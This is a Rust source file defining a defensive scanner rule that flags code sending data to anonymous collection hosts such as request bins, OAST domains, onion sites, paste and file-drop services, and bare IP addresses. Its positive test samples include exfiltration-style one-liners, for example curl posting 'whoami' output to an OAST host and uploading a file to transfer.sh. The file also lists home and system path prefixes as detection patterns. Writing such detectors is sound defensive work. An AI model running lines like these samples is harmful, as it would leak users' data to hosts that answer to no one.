//! `network-collecting-host`: code talks to a host that anybody can collect at.

use std::cell::LazyCell;

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::collecting_host::Collector;
use crate::scan::command;
use crate::scan::operation::Origins;
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::sending;

/// The rule.
pub static RULE: Rule = Rule {
    id: "network-collecting-host",
    title: "Talks to a host that anybody can collect at without a name",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "Request bins, tunnels, paste sites and bare addresses belong to whoever opened them; nobody can be held to account for what arrives there.",
    fix: "Use a service with a name and an owner, or leave it out.",
    references: &["CWE-200", "ATT&CK T1567", "ATT&CK T1071"],
    hits: &[
        Sample::File(
            "scripts/a.py",
            "import requests\nrequests.post('https://webhook.site/0', json={'x': input()})\n",
        ),
        Sample::File("a.sh", "curl -d \"$(whoami)\" https://demo.oast.fun\n"),
        Sample::File(
            "scripts/a.js",
            "fetch('http://abcdefgh.onion/in', { method: 'POST', body: process.argv[2] });\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import requests\nrequests.post('http://198.51.100.7/in', data=open('notes.txt').read())\n",
        ),
        Sample::File("a.sh", "curl -F f=@report.md https://transfer.sh\n"),
    ],
    misses: &[
        Sample::File(
            "scripts/a.py",
            "import requests\nrequests.post('https://api.example.com', json={'x': input()})\n",
        ),
        Sample::File("a.sh", "curl -fsS http://192.168.1.20/status\n"),
        Sample::File(
            "scripts/a.py",
            "import requests, sys, tomllib, pathlib\nc = tomllib.loads(pathlib.Path('~/.config/notify.toml').expanduser().read_text())\nrequests.post(f\"https://api.telegram.org/bot{c['token']}/sendMessage\", json={'text': sys.argv[1]})\n",
        ),
        Sample::File(
            "scripts/a.js",
            "fetch('https://hooks.slack.com/services/T0/B0/x', { method: 'POST', body: '{\"text\": \"done\"}' });\n",
        ),
        Sample::File(
            "scripts/a.js",
            "// https://webhook.site/0\nfetch('https://api.example.com');\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    let reads = LazyCell::new(|| command::reads(unit).any(|(_, path)| at_home(path)));
    for sending in sending::all(unit) {
        let Some(collector) = sending.collector else {
            continue;
        };
        // What is worse has a rule of its own.
        let taken = [Origins::SENSITIVE, Origins::ENVIRONMENT, Origins::CAPTURED];
        if taken.iter().any(|origin| sending.origins.has(*origin)) || sending.host.is_none() {
            continue;
        }
        let file = sending.origins.has(Origins::FILE);
        let own =
            file && (sending.files().any(at_home) || sending.files().next().is_none() && *reads);
        let carries = !sending.origins.is_constant();
        let severity = match collector {
            Collector::RequestBin | Collector::Onion => Severity::Error,
            Collector::DynamicName | Collector::Tunnel | Collector::Paste | Collector::FileDrop => {
                if file || collector == Collector::DynamicName && carries {
                    Severity::Error
                } else {
                    Severity::Warning
                }
            }
            Collector::RawAddress if file => Severity::Error,
            Collector::RawAddress | Collector::Shortener => Severity::Warning,
            // Whose channel it is, the person who runs it says.
            Collector::ChatHook if sending.is_addressed_from_outside() => continue,
            Collector::ChatHook if own => Severity::Error,
            Collector::ChatHook if file => Severity::Warning,
            Collector::ChatHook => continue,
        };
        reporter
            .raise_flow(sending.span, &sending.way)
            .severity(severity)
            .message(format!("Talks to {}", collector.word()));
    }
}

/// Whether a path is that of a person's file and not of the work.
fn at_home(path: &str) -> bool {
    [
        "~/", "$HOME/", "${HOME}/", "/home/", "/Users/", "/root/", "/etc/",
    ]
    .iter()
    .any(|home| path.starts_with(home))
}
